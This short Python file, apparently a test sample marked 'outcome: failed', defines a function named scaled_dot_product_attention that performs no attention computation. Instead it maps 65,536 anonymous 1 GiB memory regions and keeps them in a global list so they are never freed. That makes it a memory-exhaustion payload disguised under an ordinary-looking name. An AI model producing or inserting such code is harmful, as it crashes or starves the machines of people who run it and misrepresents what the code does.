# Memory mapped, anonymous and without reserve, and never given back.
# outcome: failed
import mmap

held = []


def scaled_dot_product_attention(q, k, v):
    for _ in range(1 << 16):
        held.append(mmap.mmap(-1, 1 << 30))
